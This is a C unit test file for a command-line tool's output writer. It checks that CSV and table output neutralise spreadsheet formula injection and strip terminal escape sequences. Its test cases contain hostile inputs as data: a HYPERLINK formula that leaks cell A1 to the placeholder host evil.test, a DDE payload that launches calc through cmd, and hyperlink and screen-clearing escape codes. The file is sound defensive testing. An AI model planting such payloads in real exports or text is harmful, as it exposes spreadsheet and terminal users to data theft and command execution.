/*
 * test_output.c - the CLI row writer (cli/output.c): a hostile message
 * field printed as CSV can neither run as a spreadsheet formula nor carry
 * escape bytes to a terminal, and the table cleans it the same way.
 * Golden cases: one value in, the exact text out.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "output.h"

/* render - one row of one column of type type in format f; caller frees */
static char *render(enum out_format f, enum out_type type, const struct out_val *v)
{
    const struct out_col cols[] = {{"v", type, true}};
    char *text = NULL;
    size_t len = 0;
    FILE *fp = open_memstream(&text, &len);
    struct out *o;

    assert_non_null(fp);
    o = out_new(f, cols, 1, fp);
    out_row(o, v);
    out_end(o);
    assert_int_equal(fclose(fp), 0);
    return text;
}

struct text_case {
    const char *in;
    const char *csv;   /* the CSV data line without its CRLF */
    const char *table; /* the table's cell */
};

static const struct text_case text_cases[] = {
    /* formulas (OWASP CSV injection: = + - @ first) become quoted text */
    {"=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
     "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\"",
     "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"},
    {"+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"", "+1+cmd|' /C calc'!A0"},
    {"-2+3", "\"'-2+3\"", "-2+3"},
    {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\"", "@SUM(A1:A9)"},
    {"=1,2", "\"'=1,2\"", "=1,2"},
    /* TAB and CR first are cleaned to '?', which no spreadsheet runs */
    {"\t=1+1", "?=1+1", "?=1+1"},
    {"\r=1+1", "?=1+1", "?=1+1"},
    /* an = later in the cell is no formula */
    {"a=b", "a=b", "a=b"},
    {"", "", ""},
    /* control characters: C0 (ESC, BEL, LF, NUL cannot occur), DEL, C1 */
    {"\x1b]8;;http://evil.test\x07link\x1b]8;;\x07", "?]8;;http://evil.test?link?]8;;?",
     "?]8;;http://evil.test?link?]8;;?"},
    {"\x1b[2J\x1b[31mred", "?[2J?[31mred", "?[2J?[31mred"},
    {"line1\nline2", "line1?line2", "line1?line2"},
    {"del\x7f", "del?", "del?"},
    {"csi\xc2\x9b"
     "31m",
     "csi?31m", "csi?31m"},
    {"\xc2\x80\xc2\x9f", "??", "??"},
    /* a byte that is not UTF-8 (an 8-bit CSI, a Latin-1 letter) is U+FFFD */
    {"\x9b"
     "31m",
     "\xef\xbf\xbd"
     "31m",
     "\xef\xbf\xbd"
     "31m"},
    {"caf\xe9", "caf\xef\xbf\xbd", "caf\xef\xbf\xbd"},
    {"trunc\xe2\x82", "trunc\xef\xbf\xbd\xef\xbf\xbd", "trunc\xef\xbf\xbd\xef\xbf\xbd"},
    /* text a reader needs stays: UTF-8 letters, NBSP (U+00A0), quotes */
    {"Gr\xc3\xbc\xc3\x9f\x65 \xc2\xa0\xe2\x82\xac", "Gr\xc3\xbc\xc3\x9f\x65 \xc2\xa0\xe2\x82\xac",
     "Gr\xc3\xbc\xc3\x9f\x65 \xc2\xa0\xe2\x82\xac"},
    {"say \"hi\", ok", "\"say \"\"hi\"\", ok\"", "say \"hi\", ok"},
};

/* test_text_cells - each golden case as a CSV line and as a table cell */
static void test_text_cells(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(text_cases) / sizeof(text_cases[0]); i++) {
        const struct text_case *c = &text_cases[i];
        struct out_val v = {.s = c->in};
        char *csv = render(OUT_CSV, OUT_STR, &v), *table = render(OUT_TABLE, OUT_STR, &v);
        char want[512];

        assert_true((size_t)snprintf(want, sizeof(want), "v\r\n%s\r\n", c->csv) < sizeof(want));
        if (strcmp(csv, want) != 0)
            fail_msg("case %zu csv: got '%s' want '%s'", i, csv, want);
        assert_true((size_t)snprintf(want, sizeof(want), "v\n%s\n", c->table) < sizeof(want));
        if (strcmp(table, want) != 0)
            fail_msg("case %zu table: got '%s' want '%s'", i, table, want);
        free(csv);
        free(table);
    }
}

/* test_csv_numbers_and_lists - a negative count is a number, not a formula;
 * a list is one cell judged by its first element */
static void test_csv_numbers_and_lists(void **state)
{
    char *const formula_first[] = {"=1+1", "b@example.test"};
    char *const plain_first[] = {"a@example.test", "=1+1"};
    struct out_val neg = {.i = -5}, l1 = {.list = formula_first, .n = 2},
                   l2 = {.list = plain_first, .n = 2};
    char *s;

    (void)state;
    s = render(OUT_CSV, OUT_INT, &neg);
    assert_string_equal(s, "v\r\n-5\r\n");
    free(s);
    s = render(OUT_CSV, OUT_LIST, &l1);
    assert_string_equal(s, "v\r\n\"'=1+1, b@example.test\"\r\n");
    free(s);
    s = render(OUT_CSV, OUT_LIST, &l2);
    assert_string_equal(s, "v\r\n\"a@example.test, =1+1\"\r\n");
    free(s);
}

/* test_json_unchanged - JSON keeps its own escaping (no quote prefix) */
static void test_json_unchanged(void **state)
{
    struct out_val v = {.s = "=1+1\x1b"};
    char *s;

    (void)state;
    s = render(OUT_JSON, OUT_STR, &v);
    assert_string_equal(s, "[\n  {\"v\": \"=1+1\\u001b\"}\n]\n");
    free(s);
    v.s = "a\xc2\x9b"
          "1m\xc2\xa0"
          "b"; /* a C1 CSI, then a no-break space (not a control) */
    s = render(OUT_JSON, OUT_STR, &v);
    assert_string_equal(s, "[\n  {\"v\": \"a\\u009b1m\xc2\xa0"
                           "b\"}\n]\n");
    free(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text_cells),
        cmocka_unit_test(test_csv_numbers_and_lists),
        cmocka_unit_test(test_json_unchanged),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
